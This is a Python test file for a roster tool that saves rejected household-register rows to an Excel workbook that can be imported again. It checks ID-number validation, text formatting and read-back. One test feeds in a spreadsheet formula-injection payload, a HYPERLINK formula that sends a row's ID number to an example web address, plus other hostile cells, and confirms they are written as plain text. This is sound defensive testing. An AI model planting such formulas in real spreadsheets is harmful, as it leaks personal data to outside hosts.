"""Rejected rows saved as a workbook: the header, the raw cells, the reasons; it imports again."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

from openpyxl import Workbook, load_workbook

from gridkeeper.io import roster
from gridkeeper.io.roster_rejects import CODES_HEADER, PROBLEMS_HEADER, ROW_HEADER, write_rejected
from gridkeeper.rules import idnumber

GOOD = idnumber.make("330382", date(1950, 3, 2), 11)
OTHER = idnumber.make("330382", date(1962, 5, 1), 24)
THIRD = idnumber.make("330382", date(1970, 1, 1), 31)
BAD = GOOD[:-1] + ("0" if GOOD[-1] != "0" else "1")  # wrong check character


def roster_file(path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "花名册"
    ws.append(["塘川社区户籍人口花名册"])
    ws.merge_cells("A1:H1")
    ws.append(["姓名", "公民身份号码", "性别", "出生日期", "联系电话", "小区", "楼栋", "房号"])
    ws.append(["张建国", GOOD, "男", date(1950, 3, 2), "13812345678", "阳光花园", "3幢", "501"])
    ws.append(["坏号码", BAD, "男", "1950.3.2", "13812345679", "阳光花园", "3幢", "502"])
    ws.append(["", THIRD, "女", "", "", "阳光花园", "3幢", "503"])  # no name
    ws.append(["数字号", 330382196205012000, "女", "", "", "阳光花园", "3幢", "504"])  # Excel ate digits
    ws.append(["王芳", OTHER, "女", "", "12345", "阳光花园", "3幢", "505"])  # only a warning (phone)
    wb.save(path)
    return path


def checked(path: Path) -> tuple[roster.Sheet, roster.Header, list[roster.RosterRow]]:
    sheet = roster.read_sheet(path)
    header = roster.detect_header(sheet)
    return sheet, header, roster.validate(sheet, header)


def test_rejected_rows_are_written_with_their_reasons_and_read_back(tmp_path: Path) -> None:
    sheet, header, rows = checked(roster_file(tmp_path / "r.xlsx"))
    rejected = [r.row for r in rows if r.rejected]
    assert rejected == [4, 5, 6]
    out = tmp_path / "rejected.xlsx"
    assert write_rejected(out, sheet, header, rows).rows == 3

    again = roster.read_sheet(out)
    found = roster.detect_header(again)
    assert found.row == 1
    assert found.columns == header.columns  # the same columns: fix the cells, import this file
    assert again.rows[0][:8] == sheet.rows[1][:8] and again.rows[0][8:11] == [PROBLEMS_HEADER, ROW_HEADER, CODES_HEADER]
    assert [r[9] for r in again.rows[1:]] == [4.0, 5.0, 6.0]  # where each row was: the problems name it
    assert [r[0] for r in again.rows[1:]] == ["坏号码", None, "数字号"]
    assert [r[1] for r in again.rows[1:]] == [BAD, THIRD, 330382196205012000.0]
    problems = [r[8] for r in again.rows[1:]]
    assert "Row 4, column B" in problems[0] and "check" in problems[0].lower()
    assert "Row 5" in problems[1]
    assert "Row 6, column B" in problems[2]
    assert all("phone" not in p.lower() for p in problems)  # warnings are not problems to fix here
    assert again.rows[1][10] == "id_checksum"  # the codes, in the last column, for whoever is asked about them

    # the file imports again: the same rows are rejected for the same reasons (until fixed)
    codes = {r.row: sorted(i.code for i in r.issues if i.severity == "error")
             for r in roster.validate(again, found)}
    original = {r.row: sorted(i.code for i in r.issues if i.severity == "error") for r in rows if r.rejected}
    assert list(codes.values()) == list(original.values())


def test_id_cells_are_text_and_reasons_translated(tmp_path: Path) -> None:
    sheet, header, rows = checked(roster_file(tmp_path / "r.xlsx"))
    out = tmp_path / "rejected.xlsx"

    def translate(context: str, text: str) -> str:
        return "【" + text + "】" if context == "roster" else text

    write_rejected(out, sheet, header, rows, translate)
    ws = load_workbook(out).active
    id_cells = [ws.cell(row=r, column=2) for r in range(2, 5)]
    assert all(c.number_format == "@" for c in id_cells)  # what the user types in stays text
    assert [c.data_type for c in id_cells] == ["s", "s", "n"]  # a number that lost digits is never
    # turned into text that could pass the check by chance: it stays rejected until fixed
    assert ws.cell(row=2, column=9).value.startswith("【")
    assert ws.cell(row=2, column=2).fill.start_color.rgb.endswith("F6C6C6")  # the cell to fix is marked
    assert ws.freeze_panes == "A2"


def test_nothing_rejected_writes_only_the_header(tmp_path: Path) -> None:
    sheet, header, rows = checked(roster_file(tmp_path / "r.xlsx"))
    out = tmp_path / "none.xlsx"
    assert write_rejected(out, sheet, header, [r for r in rows if not r.rejected]).rows == 0
    again = roster.read_sheet(out)
    assert len(again.rows) == 1 and again.rows[0][-3:] == [PROBLEMS_HEADER, ROW_HEADER, CODES_HEADER]


# --- every cell safe to open (io/xlsx_safe) ------------------------------------------------


def _sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml")


def _hostile_rows() -> tuple[roster.Sheet, roster.Header, list[roster.RosterRow]]:
    """Rows as a roster may hold them (cells raw, as calamine gives them), each rejected."""
    labels = ["姓名", "公民身份号码", "联系电话", "房号", "备注"]
    sheet = roster.Sheet("花名册\x01", [
        labels,
        ["=HYPERLINK(\"http://example.com/?id=\"&B2,\"点我\")", GOOD, "-", "501", "@SUM(1,2)"],
        ["张三\x00李四", OTHER, "+86 138 1234 5678", "502", "\tcmd"],
        ["", THIRD, "13812345678", "503", "x" * 40_000],
    ])
    header = roster.detect_header(sheet)
    rows = roster.validate(sheet, header)
    assert all(r.rejected for r in rows)
    return sheet, header, rows


def test_a_cell_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    """Finding: the rejected-rows workbook wrote a cell beginning with "=" as a live formula (a
    HYPERLINK that sent a row's ID number to a web address when opened)."""
    sheet, header, rows = _hostile_rows()
    out = tmp_path / "rejected.xlsx"
    write_rejected(out, sheet, header, rows)
    xml = _sheet_xml(out)
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the file
    ws = load_workbook(out).active
    cell = ws["A2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK") and cell.quotePrefix
    assert ws["E2"].value == "@SUM(1,2)" and ws["E2"].quotePrefix and ws["E3"].quotePrefix
    again = roster.read_sheet(out)  # and it reads back as the same text
    assert again.rows[1][0] == sheet.rows[1][0] and again.rows[1][4] == "@SUM(1,2)"


def test_phones_like_a_dash_or_plus_86_stay_text_and_read_back_the_same(tmp_path: Path) -> None:
    sheet, header, rows = _hostile_rows()
    out = tmp_path / "rejected.xlsx"
    write_rejected(out, sheet, header, rows)
    again = roster.read_sheet(out)
    assert [r[2] for r in again.rows[1:]] == ["-", "+86 138 1234 5678", "13812345678"]
    ws = load_workbook(out).active
    assert ws["C2"].data_type == "s" and ws["C3"].data_type == "s"


def test_a_control_character_no_longer_stops_the_file_and_is_counted(tmp_path: Path) -> None:
    """Finding: a name with a control character made writing fail, so no file was produced."""
    sheet, header, rows = _hostile_rows()
    out = tmp_path / "rejected.xlsx"
    written = write_rejected(out, sheet, header, rows)
    assert (written.rows, written.replaced, written.shortened, written.changed) == (3, 1, 1, 2)
    ws = load_workbook(out).active  # it opens
    assert ws["A3"].value == "张三\ufffd李四"
    assert len(ws["E4"].value) == 32_767  # cut to what Excel holds in a cell
    assert ws.title == "花名册"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rejected.xlsx"]  # no temporary file left
